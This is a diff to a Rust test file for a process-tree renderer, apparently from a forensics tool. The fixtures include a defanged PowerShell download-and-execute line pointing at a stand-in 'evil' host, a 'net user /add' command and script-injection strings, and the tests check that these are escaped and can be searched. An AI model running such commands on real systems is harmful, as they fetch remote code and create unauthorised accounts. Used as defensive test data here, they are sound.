@@ -5,7 +5,13 @@ fn node(depth: usize, label: &str) -> TreeNode {
 }
 
 fn tree(nodes: Vec<TreeNode>) -> Tree {
-    Tree { title: "Processes".to_owned(), noun: ("process", "processes"), heaviest: "the rarest", nodes }
+    Tree {
+        title: "Processes".to_owned(),
+        noun: ("process", "processes"),
+        heaviest: "the rarest",
+        nodes,
+        ..Tree::default()
+    }
 }
 
 #[test]
@@ -96,4 +102,73 @@ fn nothing_is_a_tree_too() {
     assert!(tree(vec![]).to_html().as_str().contains("0 processes"));
     // A first node that is deep has nothing above it all the same.
     assert!(tree(vec![node(7, "deep"), node(usize::MAX, "deeper")]).to_text().contains("deeper"));
+}
+
+fn with_finds(depth: usize, label: &str) -> TreeNode {
+    let lines = vec!["IEX (iwr hxxp://evil[.]example/a)".to_owned(), "<script>alert(1)</script>".to_owned()];
+    TreeNode { finds: vec![TreeFind { title: "decoded base64".to_owned(), lines }], ..node(depth, label) }
+}
+
+#[test]
+fn what_was_found_is_folded_at_its_node_and_keeps_it_open() {
+    let mut nodes: Vec<TreeNode> = (0..60).map(|it| node(0, &format!("filler {it}"))).collect();
+    nodes.extend([node(0, "above"), with_finds(1, "powershell.exe"), node(2, "below")]);
+    let tree = tree(nodes);
+    let html = tree.to_html().into_string();
+    assert!(html.contains("<details class=\"nblt-found\"><summary>decoded base64</summary>"));
+    assert!(html.contains("&lt;script&gt;") && !html.contains("<script"));
+    for open in ["above", "powershell.exe"] {
+        assert!(html.contains(&format!("open=\"\"><summary class=\"nblt-row\"><b>{open}</b>")), "{open}");
+    }
+    let text = tree.to_text();
+    let found =
+        "    powershell.exe\n        ↳ decoded base64\n            IEX (iwr hxxp://evil[.]example/a)\n";
+    assert!(text.contains(found), "{text}");
+    let many = TreeFind { title: "many".to_owned(), lines: vec!["x".to_owned(); 40] };
+    assert_eq!(many.outline().last().map(String::as_str), Some("    … 28 more"));
+}
+
+#[test]
+fn a_filter_keeps_what_is_above_and_counts() {
+    let child = |label: &str, text: &str| TreeNode { text: text.to_owned(), ..node(1, label) };
+    let tree = tree(vec![
+        node(0, "explorer.exe"),
+        child("cmd.exe", "cmd /c NET user x /add"),
+        child("cmd.exe", "cmd /c dir"),
+        node(0, "other.exe"),
+        with_finds(1, "powershell.exe"),
+    ]);
+    let found = |words: &str| {
+        let (tree, number) = tree.matching(words);
+        (tree.nodes.iter().map(|it| it.label.clone()).collect::<Vec<_>>(), number)
+    };
+    assert_eq!(found("net USER"), (vec!["explorer.exe".to_owned(), "cmd.exe".to_owned()], 1));
+    assert_eq!(found("evil[.]example").1, 1, "in what was found, too");
+    assert_eq!(found("").1, 5);
+    assert_eq!(found("nowhere"), (vec![], 0));
+    // Of many, what is looked for is drawn.
+    let mut nodes: Vec<TreeNode> =
+        (0..5_000).map(|it| TreeNode { weight: 9, ..node(0, &it.to_string()) }).collect();
+    nodes.push(node(0, "needle"));
+    let many = Tree { at_most: Some(3), ..tree };
+    let (needle, _) = Tree { nodes, ..many }.matching("needle");
+    assert!(needle.to_text().contains("needle"));
+}
+
+#[test]
+fn the_drawing_has_each_node_and_says_what_is_left_out() {
+    let hostile = "<script>alert('x')</script>\u{202e}";
+    let mut nodes =
+        vec![node(0, hostile), TreeNode { heat: 4, text: hostile.to_owned(), ..with_finds(1, "b.exe") }];
+    let svg = tree(nodes.clone()).to_svg().to_string();
+    assert_eq!(svg.matches("<circle").count(), 2);
+    assert!(svg.contains("#D25347") && svg.contains("b.exe") && svg.contains("decoded base64"));
+    assert!(!svg.contains("<script") && !svg.contains('\u{202e}'));
+    nodes.extend((0..10_000).map(|it| node(2 + it % 60, "x.exe")));
+    let svg = tree(nodes).to_svg().to_string();
+    assert_eq!(svg.matches("<circle").count(), 300);
+    assert!(svg.contains("drawing 300 of 10,002 processes") && svg.contains("not drawn"));
+    assert!(svg.len() < 400_000, "{}", svg.len());
+    assert!(tree(vec![node(usize::MAX, "deep")]).to_svg().as_str().contains("deep"));
+    assert!(tree(vec![]).to_svg().as_str().contains("0 processes"));
 }
